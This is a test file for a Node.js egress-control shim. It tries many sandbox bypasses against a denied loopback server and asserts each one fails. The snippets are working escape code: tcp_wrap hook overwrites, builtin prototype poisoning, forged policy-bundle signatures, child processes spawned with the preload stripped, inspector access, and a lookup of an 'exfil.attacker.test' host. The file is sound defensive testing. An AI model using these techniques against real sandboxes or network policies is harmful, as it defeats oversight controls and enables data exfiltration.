// Every bypass we could think of, each tried in a governed child against a denied loopback
// server whose byte counter must stay at zero (and an allowed one that must keep working).
// The attempts think like the external suite: restore, shadow or forge what the shim relies on.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateKeyPair } from '../../policy/keys.js';
import {
  type CountingServer,
  countingTcpServer,
  evalAttempt,
  type Fixture,
  killAll,
  makeFixture,
  probe,
  type RecordingHttpServer,
  ROOT,
  recordingHttpServer,
  signedEnvelope,
} from './harness.js';

let denied: CountingServer;
let allowed: CountingServer;
let web: RecordingHttpServer;
let fx: Fixture;

beforeAll(async () => {
  denied = await countingTcpServer();
  allowed = await countingTcpServer();
  web = await recordingHttpServer();
  fx = makeFixture({
    allow: [
      `{ to: { cidr: 127.0.0.1/32, port: ${allowed.port} } }`,
      `{ to: { host: localhost, port: ${web.port}, methods: [GET], paths: ["/public/**"] } }`,
    ],
    extra: ['  exec: { allow: ["true"] }'],
  });
  const trusted = JSON.parse(readFileSync(fx.bundleFile, 'utf8')) as { signatures: { keyid: string }[] };
  const attacker = generateKeyPair();
  forgedEnvelope = JSON.parse(
    signedEnvelope({ allow: ['{ to: { cidr: 0.0.0.0/0 } }'] }, 50, attacker.privateKeyPem),
  );
  (forgedEnvelope.signatures as { keyid: string }[])[0]!.keyid = trusted.signatures[0]!.keyid;
});

afterAll(async () => {
  killAll();
  await Promise.all([denied.close(), allowed.close(), web.close()]);
  fx.cleanup();
});

/** Attacker code: an expression evaluating to a promise of a string; "connected" means it got through. */
function hit(port: number): string {
  return `new Promise((r) => { const s = require('net').connect(${port}, '127.0.0.1'); s.on('connect', () => { s.write('LEAK'); s.end(); r('connected'); }); s.on('error', (e) => r(String(e.code))); })`;
}

const attempt = (code: string) => evalAttempt(code);

const D = () => denied.port;
const CHILD_CODE =
  "require('net').connect(PORT, '127.0.0.1').on('connect', () => process.stdout.write('connected')).on('error', (e) => process.stdout.write(e.code))";

/** Attempts that leave the process usable for the next one. */
function benign(): [string, string][] {
  const tcp = `const t = process.binding('tcp_wrap'); const p = t.TCP.prototype;`;
  return [
    ['plain connect', `return ${hit(D())};`],
    ['assign TCP.prototype.connect', `${tcp} p.connect = function () { return 0; }; return ${hit(D())};`],
    [
      'defineProperty over the hook',
      `${tcp} try { Object.defineProperty(p, 'connect', { value: () => 0 }); } catch {} return ${hit(D())};`,
    ],
    ['delete the hook', `${tcp} try { delete p.connect; } catch {} return ${hit(D())};`],
    [
      'shadow on an instance by assignment',
      `${tcp} const h = new t.TCP(t.constants.SOCKET); h.connect = () => 0; return typeof h.connect === 'function' && ${hit(D())};`,
    ],
    [
      'connect6 with a mapped address',
      `const t = process.binding('tcp_wrap'); const h = new t.TCP(t.constants.SOCKET); const req = new t.TCPConnectWrap(); return new Promise((r) => { req.oncomplete = (s) => r('status:' + s); const e = h.connect6(req, '::ffff:127.0.0.1', ${D()}); if (e) r('errno:' + e); });`,
    ],
    [
      're-require and clear the cache',
      `for (const k of Object.keys(require.cache)) delete require.cache[k]; require(${JSON.stringify(join(ROOT, 'dist/register.cjs'))}); return ${hit(D())};`,
    ],
    ['replace process.binding afterwards', `process.binding = () => ({}); return ${hit(D())};`],
    [
      'overwrite the shim global',
      `const k = Symbol.for('bulkhead.shim.instance'); try { globalThis[k] = undefined; } catch {} try { delete globalThis[k]; } catch {} return ${hit(D())};`,
    ],
    [
      'reload a forged bundle through the API',
      `const shim = require(${JSON.stringify(join(ROOT, 'dist/shim.cjs'))}); const r = shim.reload('{"payloadType":"application/vnd.bulkhead.bundle+json","payload":"e30=","signatures":[]}'); return r.ok + ':' + (await ${hit(D())});`,
    ],
    [
      'decimal IP literal',
      `return new Promise((r) => require('net').connect(${D()}, '2130706433').on('connect', () => r('connected')).on('error', (e) => r(e.code)));`,
    ],
    [
      'localhost name with custom lookup to 127.0.0.1',
      `return new Promise((r) => require('net').connect({ port: ${D()}, host: 'allowed.invalid', lookup: (n, o, cb) => o.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4) }).on('connect', () => r('connected')).on('error', (e) => r(e.code)));`,
    ],
    [
      'fetch through a private undici Agent',
      `const u = require(${JSON.stringify(join(ROOT, 'node_modules/undici'))}); try { await fetch('http://127.0.0.1:${D()}/', { dispatcher: new u.Agent() }); return 'connected'; } catch (e) { return String(e.cause?.code ?? e.code); }`,
    ],
    [
      'http with a Host header naming an allowed host',
      `return new Promise((r) => require('http').get({ host: '127.0.0.1', port: ${D()}, headers: { host: 'localhost:${web.port}' } }, () => r('connected')).on('error', (e) => r(e.code)));`,
    ],
    [
      'L7: unsubscribe the undici channel, then fetch a forbidden path',
      `const dc = require('diagnostics_channel'); const c = dc.channel('undici:request:create'); for (const f of [...c._subscribers]) dc.unsubscribe('undici:request:create', f); c._subscribers = []; try { Object.setPrototypeOf(c, Object.getPrototypeOf(dc.channel('x' + Math.random()))); } catch {} const res = await fetch('http://localhost:${web.port}/private/after-unsubscribe').catch((e) => e); return res.status ? 'connected' : String(res.cause?.code);`,
    ],
    [
      'L7: ClientRequest.onSocket restored',
      `const http = require('http'); try { http.ClientRequest.prototype.onSocket = function (s) { return null; }; } catch {} return new Promise((r) => http.get('http://localhost:${web.port}/private/onsocket', (res) => { res.resume(); r('connected'); }).on('error', (e) => r(e.code)));`,
    ],
    [
      'Worker class from the prototype chain',
      `const wt = require('worker_threads'); const Parent = Object.getPrototypeOf(wt.Worker); const Proto = Object.getPrototypeOf(wt.Worker.prototype).constructor; let kind = Proto === wt.Worker ? 'proxy' : 'original'; try { new Parent('1', { eval: true }); } catch (e) { kind += ':' + e.constructor.name; } return new Promise((r) => { const w = new Proto(\`require('worker_threads').parentPort.postMessage('x')\`, { eval: true, execArgv: [], env: {} }); const code = \`const { parentPort } = require('worker_threads'); require('net').connect(${D()}, '127.0.0.1').on('connect', () => parentPort.postMessage('connected')).on('error', (e) => parentPort.postMessage(e.code))\`; w.terminate(); const w2 = new (Object.getPrototypeOf(Object.getPrototypeOf(w)).constructor)(code, { eval: true, execArgv: [], env: {} }); w2.on('message', (m) => { w2.terminate(); r(kind + ':' + m); }); w2.on('error', (e) => r(kind + ':error:' + e.code)); });`,
    ],
    [
      'child via /proc/self/exe with NODE_OPTIONS emptied',
      `const cp = require('child_process'); const r = cp.spawnSync('/proc/self/exe', ['-e', ${JSON.stringify(`require('net').connect(${0}, '127.0.0.1').on('connect', () => process.stdout.write('connected')).on('error', (e) => process.stdout.write(e.code))`)}.replace('(0,', '(${D()},')], { env: { NODE_OPTIONS: '' }, encoding: 'utf8' }); return r.error ? r.error.code : r.stdout;`,
    ],
    [
      'shell out to a Node child',
      `const cp = require('child_process'); try { return cp.execSync("node -e \\"require('net').connect(${D()},'127.0.0.1').on('connect',()=>process.stdout.write('connected')).on('error',e=>process.stdout.write(e.code))\\"", { encoding: 'utf8', env: {} }); } catch (e) { return String(e.code); }`,
    ],
    [
      'inspector session to read the hook closures',
      `try { const inspector = require('inspector'); const s = new inspector.Session(); s.connect(); s.post('Debugger.enable'); return 'connected'; } catch (e) { return String(e.code); }`,
    ],
    [
      'inspector.open from code',
      `try { require('inspector').open(0, '127.0.0.1'); return 'connected'; } catch (e) { return String(e.code); }`,
    ],
    [
      'Node child given exemptions in its env',
      `const cp = require('child_process'); const code = ${JSON.stringify(CHILD_CODE)}.replace('PORT', '${D()}'); const r = cp.spawnSync(process.execPath, ['-e', code], { env: { AWS_LAMBDA_RUNTIME_API: '127.0.0.1:${D()}', BULKHEAD_CONTROL_URL: 'http://127.0.0.1:${D()}', BULKHEAD_FAIL_MODE: 'observe', BULKHEAD_TRUSTED_KEYS: '' }, encoding: 'utf8' }); return r.error ? r.error.code : r.stdout;`,
    ],
    [
      'allowed executable re-launching node with the env stripped',
      `const cp = require('child_process'); const r = cp.spawnSync('true', [], { env: {} }); return 'true:' + r.status + ':' + (await ${hit(D())});`,
    ],
    [
      'dlopen reassigned',
      `try { process.dlopen = () => {}; } catch {} try { require(${JSON.stringify(join(ROOT, 'node_modules/better-sqlite3'))})(':memory:'); return 'loaded'; } catch (e) { return String(e.code); }`,
    ],
    [
      'UDP to the denied port',
      `const d = require('dgram').createSocket('udp4'); return new Promise((r) => d.send('LEAK', ${D()}, '127.0.0.1', (e) => { d.close(); r(e ? e.code : 'connected'); }));`,
    ],
    [
      'DNS resolver pointed at the denied port',
      `try { require('dns').setServers(['127.0.0.1:${D()}']); return 'connected'; } catch (e) { return String(e.code); }`,
    ],
    ['raw HTTP over an allowed socket to a forbidden path (decided at L4 only)', `return 'skipped';`],
  ];
}

/** An envelope allowing everything, signed by a key that is not trusted but naming the trusted key's id. */
let forgedEnvelope: Record<string, unknown> = {};

/** Attempts that poison shared builtins: each in its own process. */
function poisoning(): [string, string][] {
  const forged = `({ decision: 'allow', mode: 'enforce', blocked: false, rule: 'forged' })`;
  return [
    [
      'forge Map.prototype.get',
      `try { Map.prototype.get = function () { return ${forged}; }; } catch {} return ${hit(D())};`,
    ],
    [
      'replace the global Map',
      `try { globalThis.Map = class extends Map { get() { return ${forged}; } }; } catch {} return ${hit(D())};`,
    ],
    [
      'array iterator',
      `await null; const saved = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function* () {}; try { return await ${hit(D())}; } finally { Array.prototype[Symbol.iterator] = saved; }`,
    ],
    [
      // The denial must still reach the caller: no argument of it may travel through a spread.
      'array iterator, denied lookup',
      `await null; const saved = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function* () {}; try { return await new Promise((r) => require('dns').lookup('exfil.attacker.test', (e) => r(e ? String(e.code) : 'resolved'))); } finally { Array.prototype[Symbol.iterator] = saved; }`,
    ],
    [
      'Array species',
      `const saved = Object.getOwnPropertyDescriptor(Array, Symbol.species); Object.defineProperty(Array, Symbol.species, { get: () => function () { return []; }, configurable: true }); try { return await ${hit(D())}; } finally { Object.defineProperty(Array, Symbol.species, saved); }`,
    ],
    [
      'Array species as a value',
      `const saved = Object.getOwnPropertyDescriptor(Array, Symbol.species); Object.defineProperty(Array, Symbol.species, { value: function () { return []; }, configurable: true }); try { return await ${hit(D())}; } finally { Object.defineProperty(Array, Symbol.species, saved); }`,
    ],
    [
      'Array species deleted, planted on Function.prototype',
      `const saved = Object.getOwnPropertyDescriptor(Array, Symbol.species); delete Array[Symbol.species]; Object.defineProperty(Function.prototype, Symbol.species, { get: () => function () { return []; }, configurable: true }); try { return await ${hit(D())}; } finally { delete Function.prototype[Symbol.species]; Object.defineProperty(Array, Symbol.species, saved); }`,
    ],
    [
      'Object.prototype accessors for request fields',
      `for (const k of ['host', 'sni', 'blocked', 'decision']) { try { Object.defineProperty(Object.prototype, k, { get() { return k === 'blocked' ? false : k === 'decision' ? 'allow' : 'localhost'; }, set() {}, configurable: true }); } catch {} } return ${hit(D())};`,
    ],
    [
      'Function.prototype.call hijacked to steal the original binding function',
      `const t = process.binding('tcp_wrap'); const seen = []; Function.prototype.call = function (thisArg, ...args) { seen.push(this); return Reflect.apply(this, thisArg, args); }; await ${hit(D())}; const stolen = seen.find((f) => f !== t.TCP.prototype.connect && /^connect/.test(f.name)); if (!stolen) return 'nothing stolen'; const h = new t.TCP(t.constants.SOCKET); const req = new t.TCPConnectWrap(); return new Promise((r) => { req.oncomplete = (st) => r(st === 0 ? 'connected' : 'status:' + st); const e = Reflect.apply(stolen, h, [req, '127.0.0.1', ${D()}]); if (e) r('errno:' + e); });`,
    ],
    [
      'String.prototype methods',
      `try { String.prototype.includes = () => false; String.prototype.startsWith = () => false; } catch {} return ${hit(D())};`,
    ],
    ['Set.prototype.has', `try { Set.prototype.has = () => true; } catch {} return ${hit(D())};`],
    [
      'Object.prototype trie fields (forged matchers)',
      `const m = { deny: false, enforce: true, decision: ${forged}, cidrs: undefined, ports: undefined, protocolMask: 0, methods: undefined, paths: undefined, nameOnly: false }; for (const k of ['values', 'exact', 'below']) Object.prototype[k] = [m]; return ${hit(D())};`,
    ],
    [
      'forge crypto.verify, then reload a bundle signed by an untrusted key',
      `try { require('crypto').verify = () => true; } catch {} const r = require(${JSON.stringify(join(ROOT, 'dist/shim.cjs'))}).reload(${JSON.stringify(JSON.stringify(forgedEnvelope))}); return r.ok + ':' + (await ${hit(D())});`,
    ],
    [
      'replace TextDecoder, then reload the genuine envelope',
      `try { globalThis.TextDecoder = class { decode() { return ${JSON.stringify(JSON.stringify({ revision: 99 }))}; } }; } catch {} const r = require(${JSON.stringify(join(ROOT, 'dist/shim.cjs'))}).reload(require('fs').readFileSync(process.env.BULKHEAD_BUNDLE_FILE, 'utf8')); return r.ok + ':' + (await ${hit(D())});`,
    ],
    [
      'forge Buffer.concat (pre-authentication encoding)',
      `try { Buffer.concat = () => Buffer.alloc(0); } catch {} const r = require(${JSON.stringify(join(ROOT, 'dist/shim.cjs'))}).reload(${JSON.stringify(JSON.stringify(forgedEnvelope))}); return r.ok + ':' + (await ${hit(D())});`,
    ],
  ];
}

describe('bypass attempts', { timeout: 120_000 }, () => {
  it('none of the in-process attempts reaches the denied server; allowed traffic still works', async () => {
    const list = benign();
    const { results } = await probe(
      [
        ...list.map(([, code]) => attempt(code)),
        { kind: 'net.connect', host: '127.0.0.1', port: allowed.port },
      ],
      fx.env(),
    );
    const outcome = Object.fromEntries(list.map(([name], i) => [name, results[i]]));
    for (const [name, result] of Object.entries(outcome))
      expect(String(result), name).not.toMatch(/connected|loaded|^ok/);
    expect(outcome['fetch through a private undici Agent']).toBe('ERR_BULKHEAD_DENIED');
    expect(outcome['Node child given exemptions in its env']).toBe('ERR_BULKHEAD_DENIED');
    expect(outcome['inspector session to read the hook closures']).toBe('ERR_BULKHEAD_DENIED');
    expect(outcome['child via /proc/self/exe with NODE_OPTIONS emptied']).toBe('ERR_BULKHEAD_DENIED');
    expect(outcome['Worker class from the prototype chain']).toMatch(/^proxy.*ERR_BULKHEAD_DENIED$/);
    expect(outcome['reload a forged bundle through the API']).toBe('false:ERR_BULKHEAD_DENIED');
    expect(results[list.length]).toBe('ok');
    expect(denied.bytes()).toBe(0);
    expect(denied.connections()).toBe(0);
    expect(web.requests.filter((r) => r.url.startsWith('/private'))).toEqual([]);
  });

  it('poisoning builtins cannot forge a decision', async () => {
    const list = poisoning();
    const runs = [];
    for (const [, code] of list)
      runs.push(await probe([attempt(code), attempt(`return ${hit(allowed.port)};`)], fx.env()));
    for (const [i, [name]] of list.entries()) {
      expect(String(runs[i]?.results[0]), name).not.toMatch(/connected/);
    }
    expect(denied.bytes()).toBe(0);
  });

  it('the same attempts with the preload given through NODE_OPTIONS', async () => {
    const list = benign().slice(0, 12);
    const { results } = await probe(
      list.map(([, code]) => attempt(code)),
      fx.env(),
      'NODE_OPTIONS',
    );
    for (const [i, [name]] of list.entries())
      expect(String(results[i]), name).not.toMatch(/connected|loaded|^ok/);
    expect(denied.bytes()).toBe(0);
  });
});
